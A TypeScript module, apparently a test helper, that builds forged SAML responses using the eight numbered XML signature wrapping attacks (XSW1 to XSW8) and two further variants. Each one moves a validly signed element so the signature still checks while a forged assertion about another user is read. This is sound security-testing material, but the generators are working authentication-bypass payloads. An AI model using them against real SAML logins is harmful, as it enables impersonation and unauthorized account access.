import { newId } from './saml-messages.ts';

const SIGNATURE = /<ds:Signature .*<\/ds:Signature>/s;
const AFTER_ISSUER = /(<saml:Issuer>[^<]*<\/saml:Issuer>)/;

/** A response with one assertion, taken apart. */
interface Parts {
  /** All of it. */
  readonly response: string;
  /** The signed element. */
  readonly original: string;
  readonly signature: string;
  /** The signed element without its signature. */
  readonly bare: string;
  /** The same about somebody else, with an identifier of its own. */
  readonly evil: string;
}

/**
 * The eight ways of signature wrapping by their usual numbers (Somorovsky et al., "On breaking SAML", 2012; numbered as
 * in SAML Raider): the signature holds, of an element that lies where it is not read, and a forged one is read.
 * The first two are of a signed response, the others of a signed assertion.
 * @param known what stands in the signed one
 * @param forged what takes its place in the forged one
 */
export const WRAPPINGS: Readonly<Record<string, (xml: string, known: string, forged: string) => string>> = {
  XSW1: (xml, known, forged) => {
    const { signature, bare, evil } = partsOf(xml, 'samlp:Response', known, forged);
    return withSignature(
      evil,
      signature.replace('</ds:Signature>', () => `${bare}</ds:Signature>`),
    );
  },
  XSW2: (xml, known, forged) => {
    const { signature, bare, evil } = partsOf(xml, 'samlp:Response', known, forged);
    return withSignature(evil, `${bare}${signature}`);
  },
  XSW3: (xml, known, forged) => {
    const { response, original, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => `${evil}${original}`);
  },
  XSW4: (xml, known, forged) => {
    const { response, original, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => inside(evil, original));
  },
  XSW5: (xml, known, forged) => {
    const { response, original, signature, bare, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => `${withSignature(evil, signature)}${bare}`);
  },
  XSW6: (xml, known, forged) => {
    const { response, original, signature, bare, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    const wrapping = signature.replace('</ds:Signature>', () => `${bare}</ds:Signature>`);
    return response.replace(original, () => withSignature(evil, wrapping));
  },
  XSW7: (xml, known, forged) => {
    const { response, original, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => `<samlp:Extensions>${evil}</samlp:Extensions>${original}`);
  },
  XSW8: (xml, known, forged) => {
    const { response, original, signature, bare, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    const object = `<ds:Object>${bare}</ds:Object></ds:Signature>`;
    const wrapping = signature.replace('</ds:Signature>', () => object);
    return response.replace(original, () => withSignature(evil, wrapping));
  },
  'the original in the extensions, the forged one in its place': (xml, known, forged) => {
    const { response, original, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => `<samlp:Extensions>${original}</samlp:Extensions>${evil}`);
  },
  'a forged one with the same identifier': (xml, known, forged) => {
    const { response, original, bare } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => `${original}${bare.replaceAll(known, forged)}`);
  },
};

function partsOf(xml: string, element: string, known: string, forged: string): Parts {
  const original = new RegExp(`<${element} .*</${element}>`, 's').exec(xml)?.[0];
  const signature = original === undefined ? undefined : SIGNATURE.exec(original)?.[0];
  if (original === undefined || signature === undefined) throw new Error(`no signed ${element} in ${xml}`);
  const bare = original.replace(signature, () => '');
  const evil = bare.replaceAll(known, forged).replace(/ ID="[^"]+"/, ` ID="${newId()}"`);
  if (evil === bare || evil.includes(known)) throw new Error('nothing is forged');
  return { response: xml, original, signature, bare, evil };
}

const withSignature = (element: string, signature: string) =>
  element.replace(AFTER_ISSUER, (issuer) => `${issuer}${signature}`);

const inside = (element: string, child: string) =>
  element.replace(/<\/saml:Assertion>$/, () => `${child}</saml:Assertion>`);
